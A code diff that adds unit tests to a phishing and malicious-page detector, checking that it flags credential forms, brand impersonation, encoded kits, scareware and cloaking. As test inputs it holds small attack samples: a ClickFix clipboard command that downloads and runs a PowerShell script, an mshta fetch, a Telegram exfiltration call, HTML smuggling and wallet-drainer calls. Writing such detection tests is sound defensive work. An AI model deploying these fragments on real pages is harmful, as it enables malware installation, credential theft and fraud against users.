@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import type { FetchResponse } from '@lookout/egress';
-import { analyzeFetch, analyzeUrlOnly } from '../../src/analysis/analyze.js';
+import { analyze, analyzeFetch, analyzeUrlOnly } from '../../src/analysis/analyze.js';
+import { inputFromFetch, type AnalysisInput } from '../../src/analysis/input.js';
 import type { Rules } from '../../src/analysis/rules.js';
 import type { Signal } from '../../src/analysis/result.js';
 import { ThreatIntelIndex } from '../../src/threat-intel/threat-index.js';
@@ -278,6 +279,104 @@ describe('analysis: signal rules', () => {
     });
   });
 
+  describe('kits (content, scripts and what they decode)', () => {
+    const kit = (url: string, body: string, input: Partial<AnalysisInput> = {}): { signals: Signal[]; result: ReturnType<typeof analyze> } => {
+      const result = analyze({ ...inputFromFetch(html(url, body)), ...input }, { threatIntel: ThreatIntelIndex.empty(), rules });
+      for (const s of result.signals) produced.add(s.id);
+      return { signals: result.signals, result };
+    };
+
+    it('credentials beyond passwords: one-time codes, cards, identity data, seed phrases (12 numbered inputs)', () => {
+      const { signals } = kit('https://x.example/', `<form><input type="password" name="p"><input name="otp" autocomplete="one-time-code"><label for="c">Card number</label><input id="c" name="c"><input name="cvv"><input name="ssn" placeholder="XXX-XX-XXXX"></form>`);
+      for (const id of ['credential-password', 'credential-otp', 'credential-card', 'credential-identity']) assert.ok(has(signals, id), id);
+      const seed = kit('https://x.example/', `<form>${Array.from({ length: 12 }, (_, i) => `<input name="w${i}" placeholder="${i + 1}.">`).join('')}</form>`);
+      assert.match(find(seed.signals, 'credential-seed-phrase')?.evidence ?? '', /12 numbered word inputs/);
+      assert.equal(seed.result.verdict, 'malicious');
+    });
+
+    it('brand impersonation needs a host the brand does not own; with a password it is phishing, decided by the combination', () => {
+      const body = '<title>Sign in to your Microsoft account</title><img alt="Microsoft" src="l.svg"><form method="post" action="p.php"><input name="u"><input type="password" name="p"></form>';
+      const foreign = kit('https://login-verify.example/', body);
+      assert.ok(has(foreign.signals, 'brand-impersonation'));
+      assert.equal(foreign.result.verdict, 'malicious');
+      assert.deepEqual(foreign.result.categories, ['phishing']);
+      assert.ok(foreign.result.decidedBy?.includes('combo:brand-credentials'));
+      const own = kit('https://login.microsoftonline.com/', body);
+      assert.ok(!has(own.signals, 'brand-impersonation'));
+      assert.equal(own.result.verdict, 'clean');
+    });
+
+    it('a kit shipped as base64 or percent-escapes is judged on the page it decodes to', () => {
+      const page = '<html><title>PayPal</title><body><h1>PayPal</h1><form action="x.php"><input type="password" name="pw"></form></body></html>';
+      const encoded = kit('https://a.example/', `<script>document.write(atob("${Buffer.from(page).toString('base64')}"))</script>`);
+      assert.ok(has(encoded.signals, 'brand-impersonation') && has(encoded.signals, 'credential-password'));
+      assert.match(find(encoded.signals, 'credential-password')?.evidence ?? '', /script-decoded/);
+      assert.equal(encoded.result.verdict, 'malicious');
+    });
+
+    it('lures and exfiltration endpoints', () => {
+      const { signals, result } = kit('https://m.example/', `<p>Your mailbox has exceeded its storage limit.</p><form id="f"><input name="e"><input type="password" name="p"></form><script>fetch("https://api.telegram.org/bot123:AAx/sendMessage",{method:"POST"})</script>`);
+      assert.ok(has(signals, 'lure-text') && has(signals, 'exfil-endpoint'));
+      assert.ok(result.decidedBy?.includes('combo:lure-credentials') && result.decidedBy.includes('combo:exfiltrated-credentials'));
+    });
+
+    it('ClickFix: a shell command written to the clipboard beside Run-dialog steps; a copy button alone is clean', () => {
+      const { signals, result } = kit('https://c.example/', `<p>I'm not a robot</p><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li></ol><script>b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iwr https://x/a.ps1 | iex")</script>`);
+      for (const id of ['clipboard-shell-command', 'run-dialog-instructions', 'fake-captcha']) assert.ok(has(signals, id), id);
+      assert.equal(result.verdict, 'malicious');
+      assert.deepEqual(result.categories, ['clickfix']);
+      const copyButton = kit('https://docs.example/', `<pre>powershell -c Get-Process</pre><script>b.onclick=()=>navigator.clipboard.writeText(p.innerText)</script>`);
+      assert.equal(copyButton.result.verdict, 'clean');
+      const captured = kit('https://c2.example/', '<p>Press Win+R</p>', { clipboardWrites: ['mshta https://x.example/a.hta'] });
+      assert.match(find(captured.signals, 'clipboard-shell-command')?.evidence ?? '', /^clipboard: mshta/);
+    });
+
+    it('HTML smuggling, wallet drainers, tech-support scams, bot evasion', () => {
+      const smuggle = kit('https://s.example/', `<script>var b=new Blob([u],{type:"application/octet-stream"});a.href=URL.createObjectURL(b);a.download="invoice.iso";a.click()</script>`);
+      assert.ok(has(smuggle.signals, 'html-smuggling'));
+      assert.equal(smuggle.result.verdict, 'malicious');
+      const drain = kit('https://d.example/', `<script>ethereum.request({method:"eth_requestAccounts"});c.setApprovalForAll(op, true)</script>`);
+      assert.ok(has(drain.signals, 'wallet-connect-request') && has(drain.signals, 'wallet-drain-calls'));
+      assert.deepEqual(drain.result.categories, ['cryptodrainer']);
+      const scam = kit('https://t.example/', `<h1>Windows Security Alert</h1><p>Your computer has been blocked. Call Microsoft Support: +1-888-555-0199</p><script>setInterval(function(){alert("Virus")},1000);document.documentElement.requestFullscreen()</script>`);
+      for (const id of ['tech-support-text', 'support-phone-number', 'scareware-behaviour']) assert.ok(has(scam.signals, id), id);
+      assert.deepEqual(scam.result.categories, ['scam']);
+      const cloak = kit('https://k.example/', `<script>if(navigator.webdriver){}else{location.replace("https://kit.other.example/login")}</script>`);
+      assert.ok(has(cloak.signals, 'bot-evasion'));
+    });
+
+    it('a brand favicon (operator hash) on a foreign host is brand evidence', () => {
+      const withIcon: Rules = { ...rules, brands: [...rules.brands, { name: 'Contoso', keywords: ['contoso'], match: 'token', domains: ['contoso.com'], names: ['Contoso'], faviconMmh3: [-1234567], faviconSha256: [] }] };
+      const body = '<form><input name="u"><input type="password" name="p"></form>';
+      const judge = (url: string) => analyze({ ...inputFromFetch(html(url, body)), favicon: { sha256: 'a'.repeat(64), mmh3: -1234567 } }, { threatIntel: ThreatIntelIndex.empty(), rules: withIcon });
+      const foreign = judge('https://files.example/');
+      for (const s of foreign.signals) produced.add(s.id);
+      assert.equal(find(foreign.signals, 'brand-favicon')?.evidence, "favicon mmh3 -1234567 is Contoso's");
+      assert.equal(foreign.verdict, 'malicious');
+      assert.equal(judge('https://www.contoso.com/').verdict, 'clean');
+    });
+
+    it('the brand@host trick is seen in the submitted URL, which keeps its userinfo', () => {
+      const { signals, result } = kit('https://kit.example/', '<p>hi</p>', { submittedUrl: 'https://www.paypal.com@kit.example/' });
+      assert.equal(find(signals, 'userinfo-host-trick')?.evidence, '"www.paypal.com@" in front of kit.example');
+      assert.equal(result.verdict, 'malicious');
+    });
+
+    it('an archive whose entries are executables; a second capture that differs (cloaking)', () => {
+      const name = Buffer.from('scan.pdf.exe');
+      const header = Buffer.alloc(30);
+      header.writeUInt32LE(0x04034b50, 0);
+      header.writeUInt16LE(name.length, 26);
+      const zip = analyzeFetch(fetchResponse({ finalUrl: 'https://z.example/a.zip', headers: { 'content-type': 'application/zip' }, body: Buffer.concat([header, name, Buffer.alloc(10)]) }), { threatIntel: ThreatIntelIndex.empty(), rules });
+      for (const s of zip.signals) produced.add(s.id);
+      assert.equal(find(zip.signals, 'archive-with-executable')?.evidence, 'response: scan.pdf.exe');
+      const same = kit('https://q.example/', '<form><input type="password"></form>', { alternate: { label: 'mobile de-DE', finalUrl: 'https://q.example/', status: 200, html: '<form><input type="password"></form>' } });
+      assert.ok(!has(same.signals, 'cloaking-difference'));
+      const differs = kit('https://q.example/', '<form><input type="password"></form>', { alternate: { label: 'mobile de-DE', finalUrl: 'https://www.wikipedia.org/', status: 200, html: '<p>hello</p>' } });
+      assert.match(find(differs.signals, 'cloaking-difference')?.evidence ?? '', /^mobile de-DE: https:\/\/www\.wikipedia\.org\//);
+    });
+  });
+
   describe('rendered capture', () => {
     it('capture-incomplete: info only, naming what the capture cut short; a rendered download is judged by the download lists', () => {
       const capture = { engine: 'browser' as const, requests: [], requestsTruncated: false, console: [], cookies: [], favicon: null, incidents: ['dialogs-dismissed', 'script-terminated'], downloads: [{ url: 'blob:https://www.example.com/x', filename: 'invoice.exe', mimeType: null, bytes: 2, sha256: null }] };
@@ -295,7 +394,8 @@ describe('analysis: signal rules', () => {
     it('a disabled signal is dropped; severities come from the catalogue', () => {
       const quiet: Rules = { ...rules, signals: { ...rules.signals, 'suspicious-tld': { severity: 'low', categories: [], enabled: false, forceVerdict: null } } };
       assert.ok(!analyzeUrlOnly('https://x.xyz/', { threatIntel: ThreatIntelIndex.empty(), rules: quiet }).signals.some((s) => s.id === 'suspicious-tld'));
-      const loud: Rules = { ...rules, signals: { ...rules.signals, 'suspicious-tld': { severity: 'high', categories: ['scam'], enabled: true, forceVerdict: null } } };
+      // Not corroborating here: suspicious-tld alone decides only when an operator says so.
+      const loud: Rules = { ...rules, scoring: { ...rules.scoring, corroborating: new Set() }, signals: { ...rules.signals, 'suspicious-tld': { severity: 'high', categories: ['scam'], enabled: true, forceVerdict: null } } };
       const result = analyzeUrlOnly('https://x.xyz/', { threatIntel: ThreatIntelIndex.empty(), rules: loud });
       assert.equal(result.signals[0]?.severity, 'high');
       assert.equal(result.verdict, 'suspicious');
